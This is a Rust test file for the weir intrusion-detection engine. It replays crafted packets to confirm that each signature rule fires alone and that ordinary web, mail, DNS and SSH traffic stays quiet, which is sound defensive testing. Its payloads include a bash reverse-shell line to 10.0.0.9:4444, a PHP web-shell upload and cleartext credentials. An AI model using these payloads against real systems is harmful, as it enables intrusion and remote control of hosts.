//! Every rule of signatures/weir.rules has packets here that it fires on, and alone fires on; on ordinary traffic none does.

#![allow(clippy::unwrap_used)] // helpers of tests

mod support;

use std::collections::{BTreeMap, BTreeSet};
use std::net::SocketAddr;
use std::path::Path;
use support::{Bench, Replayed, ethernet, v4, v6, with_id};
use weir::base::{Dir, Family};
use weir::wire::build::{
    Capture, IpFields, Message, Segment, TcpConversation, TcpOptions, icmp_packet, tcp_packet, udp_packet,
};

const RULES: &str = "signatures/weir.rules";

type Packets = Vec<Vec<u8>>;

const FIN: u8 = 0x01;
const SYN: u8 = 0x02;
const PSH: u8 = 0x08;
const ACK: u8 = 0x10;
const URG: u8 = 0x20;

fn client() -> SocketAddr {
    v4(1, 40_000)
}

fn server(port: u16) -> SocketAddr {
    v4(2, port)
}

/// A connection in which each side says something, in small segments.
fn talk(port: u16, request: &[u8], answer: &[u8]) -> Packets {
    let mut talk = TcpConversation::new(client(), server(port), u64::from(port));
    talk.handshake().send(Dir::ToServer, request, 11);
    if !answer.is_empty() {
        talk.send(Dir::ToClient, answer, 11);
    }
    talk.close(Dir::ToServer);
    talk.packets
}

fn segment(port: u16, flags: u8) -> Vec<u8> {
    let options = TcpOptions::default();
    let segment = Segment { seq: 1, ack: 0, flags, window: 1024, urgent: 0, options, payload: &[] };
    tcp_packet(client(), server(port), &IpFields::default(), &segment)
}

fn udp(payload: &[u8]) -> Vec<u8> {
    udp_packet(client(), server(9), &IpFields::default(), payload)
}

fn with_options(options: &[u8]) -> Packets {
    let fields = IpFields { options: options.to_vec(), ..IpFields::default() };
    vec![udp_packet(client(), server(9), &fields, b"by another way")]
}

fn icmp(kind: u8, payload: &[u8]) -> Packets {
    let message = Message { kind, code: 0, rest: 0, payload };
    vec![icmp_packet(client().ip(), server(0).ip(), &IpFields::default(), &message)]
}

fn echo(payload: &[u8]) -> Packets {
    let message = Message::echo(Family::V4, true, 7, 1, payload);
    vec![icmp_packet(client().ip(), server(0).ip(), &IpFields::default(), &message)]
}

/// Changes bytes of the IPv4 header of `packet` (20 bytes long) and its checksum.
fn altered(mut packet: Vec<u8>, change: impl FnOnce(&mut [u8])) -> Vec<u8> {
    change(&mut packet);
    packet[10..12].fill(0);
    let sum = weir::wire::checksum::internet(&packet[..20]);
    packet[10..12].copy_from_slice(&sum.to_be_bytes());
    packet
}

/// A loose (131) or strict (137) source route over one address (RFC 791).
fn source_route(kind: u8) -> Packets {
    with_options(&[kind, 7, 4, 10, 0, 0, 9, 0])
}

/// What each rule fires on, and how often.
fn cases() -> BTreeMap<u64, (Packets, usize)> {
    let once = |sid, packets| (sid, (packets, 1));
    let cut_tcp = altered(segment(80, ACK), |packet| packet[20 + 12] = 4 << 4);
    let syns = (0..60).map(|n| segment(1000 + n, SYN)).collect();
    let same = udp_packet(client(), v4(1, 9), &IpFields::default(), b"to myself");
    let mut short_udp = udp(b"short");
    short_udp[24..26].copy_from_slice(&4u16.to_be_bytes());
    BTreeMap::from([
        once(9_100_000, talk(7000, b"before WEIR-SELF-TEST-7f3a behind", b"")),
        once(9_100_001, vec![udp(b"before WEIR-SELF-TEST-7f3a behind")]),
        once(9_100_010, vec![segment(80, 0)]),
        once(9_100_011, vec![segment(80, FIN | PSH | URG)]),
        once(9_100_012, vec![segment(80, SYN | FIN)]),
        once(9_100_013, syns),
        once(9_100_020, vec![same]),
        once(9_100_021, source_route(131)),
        once(9_100_022, source_route(137)),
        once(9_100_023, vec![altered(udp(b"evil bit"), |packet| packet[6] |= 0x80)]),
        once(9_100_030, icmp(5, &[0; 28])),
        once(9_100_031, icmp(17, &[0; 4])),
        once(9_100_032, echo(&[0x55; 1025])),
        once(9_100_033, echo(b"SSH-2.0-OpenSSH_9.7")),
        once(9_100_040, talk(21, b"USER me\r\nPASS secret\r\nPASS again\r\n", b"")),
        once(9_100_041, talk(80, b"GET / HTTP/1.1\r\nAuthorization: Basic bWU6eW91\r\n\r\n", b"")),
        once(9_100_042, talk(7000, b"-----BEGIN RSA PRIVATE KEY-----\n", b"")),
        once(9_100_050, talk(80, b"POST /x HTTP/1.1\r\n\r\n<?php system($_REQUEST['c']); ?>", b"")),
        once(9_100_051, talk(7000, b"bash -i >& /dev/tcp/10.0.0.9/4444 0>&1\n", b"")),
        once(9_100_052, talk(7000, b"id\n", b"uid=0(root) gid=0(root) groups=0(root)\n")),
        once(9_100_060, vec![altered(udp(b"cut"), |packet| packet[2..4].copy_from_slice(&[4, 0]))]),
        once(9_100_061, vec![cut_tcp]),
        once(9_100_062, vec![short_udp]),
        once(9_100_070, talk(23, b"\xff\xfd\x03\xff\xfb\x18", b"login: ")),
    ])
}

fn replay(bench: &Bench, capture: &Capture, more: &[&str]) -> Replayed {
    let set = "rules.classification=\"signatures/classification.config\"";
    let all = [&["--set", set][..], more].concat();
    bench.replay_rules(&bench.capture(capture), Path::new(RULES), &all)
}

#[test]
fn every_rule_has_packets_that_it_alone_fires_on() {
    let text = std::fs::read_to_string(RULES).unwrap();
    let number = |line: &str| line.split("sid:").nth(1)?.split(';').next()?.parse::<u64>().ok();
    let shipped: BTreeSet<u64> = text.lines().filter(|l| l.starts_with("alert")).filter_map(number).collect();
    let cases = cases();
    assert_eq!(cases.keys().copied().collect::<BTreeSet<_>>(), shipped, "a case for each rule");
    let bench = Bench::new();
    let mut wrong = Vec::new();
    for (sid, (packets, times)) in cases {
        let replayed = replay(&bench, &ethernet(packets), &["--workers", "0"]).clean();
        let sids = replayed.events.sids();
        if sids != vec![sid; times] {
            wrong.push(format!("{sid}, {times} times: {sids:?}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn classes_of_the_rules_are_in_their_alerts() {
    let bench = Bench::new();
    let (packets, _) = cases().remove(&9_100_052).unwrap();
    let replayed = replay(&bench, &ethernet(packets), &[]).clean();
    let alert = &replayed.events.of("alert")[0]["alert"];
    assert_eq!(
        (alert["category"].as_str(), alert["severity"].as_u64()),
        (Some("Command shell on the wire"), Some(1))
    );
}

/// Web, mail, names, pings, fragments: what a network has on a quiet day.
fn ordinary() -> Capture {
    let mut packets = Packets::new();
    for n in 0..20 {
        let mut web = TcpConversation::new(v4(n + 10, 50_000), server(80), u64::from(n));
        web.handshake().send(Dir::ToServer, b"GET /index.html HTTP/1.1\r\nHost: example.org\r\n\r\n", 1460);
        web.send(Dir::ToClient, &[b"HTTP/1.1 200 OK\r\n\r\n", &[b'x'; 5000][..]].concat(), 1460);
        web.close(if n % 2 == 0 { Dir::ToServer } else { Dir::ToClient });
        packets.extend(web.packets);
    }
    packets.extend(talk(21, b"USER anonymous\r\nQUIT\r\n", b"220 welcome\r\n"));
    packets.extend(talk(25, b"EHLO here\r\nQUIT\r\n", b"220 mail\r\n"));
    packets.extend(talk(22, b"SSH-2.0-OpenSSH_9.7\r\n", b"SSH-2.0-OpenSSH_9.7\r\n"));
    for (from, to) in [(v4(3, 5000), v4(4, 53)), (v6(3, 5000), v6(4, 53))] {
        packets.push(udp_packet(
            from,
            to,
            &IpFields::default(),
            b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07example\x03org\0\0\x01\0\x01",
        ));
        let large = udp_packet(to, from, &with_id(8), &[7; 2500]);
        packets.extend(weir::wire::build::fragments(&large, 8, &[1400]));
    }
    packets.extend(echo(&[0x61; 56]));
    ethernet(packets)
}

#[test]
fn ordinary_traffic_raises_no_alert() {
    let bench = Bench::new();
    for workers in ["0", "2"] {
        let replayed = replay(&bench, &ordinary(), &["--workers", workers]).clean();
        assert_eq!(replayed.events.sids(), [0u64; 0], "{workers} workers");
    }
}

#[test]
fn the_demonstration_raises_its_own_alerts_for_any_number_of_workers() {
    let bench = Bench::new();
    for workers in ["0", "1", "2", "4"] {
        let (capture, rules) = (Path::new("conf/demo.pcap"), Path::new("conf/demo.rules"));
        let mut sids = bench.replay_rules(capture, rules, &["--workers", workers]).clean().events.sids();
        sids.sort_unstable();
        assert_eq!(sids, [9_900_001, 9_900_001, 9_900_001, 9_900_002], "{workers} workers");
        let ours = bench.replay_rules(capture, Path::new(RULES), &["--workers", workers]);
        assert_eq!(ours.events.sids(), [0u64; 0], "{workers} workers");
    }
}
